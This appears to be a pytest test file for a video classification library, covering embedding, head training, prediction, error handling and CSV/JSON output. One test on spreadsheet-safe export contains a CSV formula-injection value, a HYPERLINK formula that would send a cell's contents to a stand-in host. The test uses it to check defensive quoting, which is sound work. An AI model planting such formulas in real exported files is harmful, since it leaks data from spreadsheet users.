import csv
import io
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import av
import numpy as np
import pytest

from classify import (
    EncoderMismatch,
    HeadError,
    PredictConfig,
    Prediction,
    Predictions,
    TrainConfig,
    TrainError,
    grab_frames,
    predict_videos,
    split_videos,
    train_head,
)
from classify.classifier.prediction_files import describe_predictions_file
from classify.data.label_sources.label_files import read_label_file
from embed import EmbedConfig, EmbeddingStore, Failure, Provenance, UniformFrames, embed_videos
from tests.media import write_video

COLOURS = {"green": (30, 160, 60), "red": (200, 30, 40)}


def write_clip(path: Path, colour: tuple[int, int, int], seed: int) -> None:
    """Write a second of one colour with some noise, 64 x 64 pixels."""
    path.parent.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(seed)
    with av.open(path, "w") as container:
        stream = container.add_stream("mpeg4", rate=10)
        stream.width = stream.height = 64
        for _ in range(10):
            rgb = np.clip(colour + rng.integers(-30, 30, (64, 64, 3)), 0, 255).astype(np.uint8)
            container.mux(stream.encode(av.VideoFrame.from_ndarray(rgb, format="rgb24")))
        container.mux(stream.encode(None))


@pytest.fixture(scope="session")
def walk(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Red and green clips, embedded by the bundled encoder, and a head trained on them."""
    root = tmp_path_factory.mktemp("walk")
    for seed, (name, colour) in enumerate([*COLOURS.items()] * 6):
        write_clip(root / "videos" / name / f"{seed:02d}.avi", colour, seed)
    write_clip(root / "new" / "unseen.avi", COLOURS["red"], 99)
    (root / "new" / "broken.avi").write_bytes(b"no video")
    config = EmbedConfig(model="efficientnet-lite0", sampling=UniformFrames(2), batch_size=8)
    embed_videos([root / "videos"], root / "embeddings.h5", config)
    split_videos(root / "embeddings.h5", root / "split.csv")
    train_head(root / "embeddings.h5", root / "split.csv", root / "head", config=TrainConfig(mixup=0, epochs=40))
    return root


@pytest.fixture
def toy_head(toy_store: Path, tmp_path: Path) -> Path:
    split_videos(toy_store, tmp_path / "split.csv")
    train_head(toy_store, tmp_path / "split.csv", tmp_path / "head", config=TrainConfig(learning_rate=0.02))
    return tmp_path / "head"


def test_the_videos_of_a_store_get_labels(toy_store: Path, toy_head: Path) -> None:
    predictions = predict_videos(toy_head, [toy_store])

    assert {video.video_id: video.labels for video in predictions.videos} == {
        video.video_id: (video.video_id.split("/")[0],) for video in predictions.videos
    }
    assert len(predictions.videos) == 60
    assert sum(predictions.videos[0].probabilities.values()) == pytest.approx(1)


def test_the_probabilities_of_all_videos_are_one_array_that_reads_as_a_dict_a_video(
    toy_store: Path, toy_head: Path
) -> None:
    videos = predict_videos(toy_head, [toy_store]).videos

    rows = [video.probabilities._row for video in videos]  # type: ignore[attr-defined]
    assert all(row.base is rows[0].base for row in rows)
    assert {**videos[0].probabilities}.keys() == {"hug", "kick", "wave"}
    assert repr(videos[0].probabilities) == repr({**videos[0].probabilities})
    assert videos[0].probabilities.get("no label") is None


def test_a_stores_failures_are_listed(toy_head: Path, make_store: Callable[..., Path]) -> None:
    failure = Failure("broken.mp4", "broken.mp4", "no_frames", "it is empty")
    store = make_store({"a.mp4": np.eye(16)[:1]}, name="other.h5", failures=[failure])

    assert predict_videos(toy_head, [store]).failures == (failure,)


def test_a_store_of_another_encoder_is_refused(
    toy_head: Path, make_store: Callable[..., Path], provenance: Provenance
) -> None:
    other = replace(provenance, encoder=replace(provenance.encoder, weights_sha256="1" * 64))
    store = make_store({"a.mp4": np.eye(16)[:1]}, name="other.h5", made_by=other)

    with pytest.raises(EncoderMismatch, match=r"other.h5 does not give .* weights sha256 is 1+, not 0+.*or train"):
        predict_videos(toy_head, [store])


def test_a_store_of_other_sampling_is_refused(
    toy_head: Path, make_store: Callable[..., Path], provenance: Provenance
) -> None:
    other = replace(provenance, sampling={"name": "uniform", "count": 4})
    store = make_store({"a.mp4": np.eye(16)[:1]}, name="other.h5", made_by=other)

    with pytest.raises(EncoderMismatch, match="sampling is uniform, count 4, not uniform, count 8"):
        predict_videos(toy_head, [store])


def test_a_device_that_is_absent_is_refused_for_stores_too(toy_store: Path, toy_head: Path) -> None:
    with pytest.raises(TrainError, match=r"no device 'tpu' here. Choose one of: auto, cpu"):
        predict_videos(toy_head, [toy_store], config=PredictConfig(device="tpu"))


def test_an_absent_head_is_refused(toy_store: Path, tmp_path: Path) -> None:
    with pytest.raises(HeadError, match=r"holds no head.json"):
        predict_videos(tmp_path / "nothing", [toy_store])


PREDICTED = Predictions(
    ("hug", "kick"),
    (
        Prediction("a.mp4", ("kick", "hug"), {"hug": 0.6, "kick": 0.9}, "/videos/a.mp4"),
        Prediction("b.mp4", (), {"hug": 0.1, "kick": 0.25}),
    ),
    (Failure("c.mp4", "/videos/c.mp4", "unreadable", "no moov, no frames"),),
)


def test_a_predictions_file_has_a_row_for_each_video_and_a_column_for_each_label() -> None:
    assert PREDICTED.to_csv() == (
        "id,path,labels,probability,error,probability_hug,probability_kick\n"
        "a.mp4,/videos/a.mp4,kick|hug,0.9000|0.6000,,0.6000,0.9000\n"
        "b.mp4,,,,,0.1000,0.2500\n"
        'c.mp4,/videos/c.mp4,,,"unreadable: no moov, no frames",,\n'
    )


def test_a_cell_that_a_spreadsheet_takes_for_a_formula_is_quoted_if_that_is_asked_for() -> None:
    formula = '=HYPERLINK("http://host/?"&A1)'
    found = Predictions((formula,), (Prediction("-a.mp4", (formula,), {formula: 1.0}, "/v/-a.mp4"),), ())
    exact, safe = (list(csv.reader(io.StringIO(found.to_csv(spreadsheet_safe=is_safe)))) for is_safe in (False, True))
    assert exact[1][:3] == ["-a.mp4", "/v/-a.mp4", formula]
    assert safe[1][:3] == ["'-a.mp4", "/v/-a.mp4", f"'{formula}"]
    assert not [cell for row in safe for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_predictions_file_with_quoted_cells_is_known_as_one(tmp_path: Path) -> None:
    found = Predictions(("=x", "'y"), (Prediction("-a.mp4", ("=x", "'y"), {"=x": 1.0, "'y": 0.9}),), ())
    for name, is_safe in (("safe.csv", True), ("exact.csv", False)):
        (tmp_path / name).write_text(found.to_csv(spreadsheet_safe=is_safe))

    assert describe_predictions_file(tmp_path / "safe.csv") == "the predictions for 1 video"
    assert describe_predictions_file(tmp_path / "exact.csv") == "the predictions for 1 video"


def test_only_failed_rows_of_a_predictions_file_have_an_error() -> None:
    rows = list(csv.DictReader(io.StringIO(PREDICTED.to_csv())))

    assert [row["id"] for row in rows if row["error"]] == ["c.mp4"]


def test_json_says_what_a_predictions_file_says() -> None:
    found = PREDICTED.to_json()

    assert found["videos"][0] == {
        "id": "a.mp4",
        "path": "/videos/a.mp4",
        "labels": ("kick", "hug"),
        "probabilities": {"hug": 0.6, "kick": 0.9},
    }
    assert found["failures"] == [
        {"id": "c.mp4", "path": "/videos/c.mp4", "reason": "unreadable", "detail": "no moov, no frames"}
    ]


def test_a_predictions_file_serves_as_a_label_file_in_which_failed_videos_have_no_label(tmp_path: Path) -> None:
    (tmp_path / "predictions.csv").write_text(PREDICTED.to_csv())

    rows = read_label_file(tmp_path / "predictions.csv").rows

    assert {row.key: row.labels for row in rows} == {"a.mp4": {"kick", "hug"}, "b.mp4": set(), "c.mp4": set()}


def test_new_videos_are_embedded_like_those_the_head_learned_from(walk: Path) -> None:
    by_store = predict_videos(walk / "head", [walk / "embeddings.h5"])
    by_video = predict_videos(walk / "head", [walk / "videos"])

    assert {video.video_id: video.probabilities for video in by_video.videos} == {
        video.video_id: pytest.approx(video.probabilities, abs=1e-4) for video in by_store.videos
    }


def test_new_videos_are_embedded_in_the_views_that_the_head_learned_from(walk: Path, tmp_path: Path) -> None:
    views = ("whole", "centre-mirrored")
    config = EmbedConfig(model="efficientnet-lite0", sampling=UniformFrames(2), batch_size=8, views=views)
    embed_videos([walk / "videos"], tmp_path / "s.h5", config)
    split_videos(tmp_path / "s.h5", tmp_path / "split.csv")
    train_head(tmp_path / "s.h5", tmp_path / "split.csv", tmp_path / "head", config=TrainConfig(epochs=40))

    kept = PredictConfig(store=tmp_path / "kept.h5")
    predictions = predict_videos(tmp_path / "head", [walk / "new"], config=kept)

    assert [video.labels for video in predictions.videos] == [("red",)]
    with EmbeddingStore(tmp_path / "kept.h5") as store:
        assert store.provenance.views == views
        assert store.row_counts.tolist() == [4]
    with pytest.raises(EncoderMismatch, match="views is centre, not whole, centre-mirrored"):
        predict_videos(tmp_path / "head", [walk / "embeddings.h5"])


def test_new_videos_are_seen_in_their_own_time_by_a_timed_head(walk: Path, tmp_path: Path) -> None:
    config = TrainConfig(arch="transformer", positions="timestamps", project=8, epochs=1)
    train_head(walk / "embeddings.h5", walk / "split.csv", tmp_path / "head", config=config)

    by_store = predict_videos(tmp_path / "head", [walk / "embeddings.h5"])
    by_video = predict_videos(tmp_path / "head", [walk / "videos"])

    assert {video.video_id: video.probabilities for video in by_video.videos} == {
        video.video_id: pytest.approx(video.probabilities, abs=1e-4) for video in by_store.videos
    }


def test_an_unseen_video_gets_its_label_and_a_broken_one_a_reason(walk: Path, tmp_path: Path) -> None:
    predictions = predict_videos(walk / "head", [walk / "new"], tmp_path / "predictions.csv")

    assert [(video.video_id, video.labels) for video in predictions.videos] == [("unseen.avi", ("red",))]
    assert [failure.id for failure in predictions.failures] == ["broken.avi"]
    with (tmp_path / "predictions.csv").open() as file:
        rows = [(row["path"], row["labels"], row["error"].split(":")[0]) for row in csv.DictReader(file)]
    assert rows == [
        (str(walk / "new" / "unseen.avi"), "red", ""),
        (str(walk / "new" / "broken.avi"), "", "unreadable"),
    ]


def test_embeddings_are_kept_where_a_store_is_named(walk: Path, tmp_path: Path) -> None:
    config = PredictConfig(store=tmp_path / "kept.h5")

    first = predict_videos(walk / "head", [walk / "new"], config=config)
    again = predict_videos(walk / "head", [walk / "new" / "unseen.avi"], config=config)

    assert again.videos == first.videos
    with EmbeddingStore(tmp_path / "kept.h5") as store:
        assert store.ids == ["unseen.avi"]


def test_three_frames_of_a_video_are_grabbed_and_none_of_what_is_no_video(tmp_path: Path) -> None:
    write_video(tmp_path / "a.mp4", 9)
    (tmp_path / "b.mp4").write_text("no video")

    found = [grab_frames(str(tmp_path / name)) for name in ("a.mp4", "b.mp4", "gone.mp4")]

    assert [len(frames) for frames in found] == [3, 0, 0]
    assert all(frame.ndim == 3 and frame.shape[2] == 3 for frame in found[0])
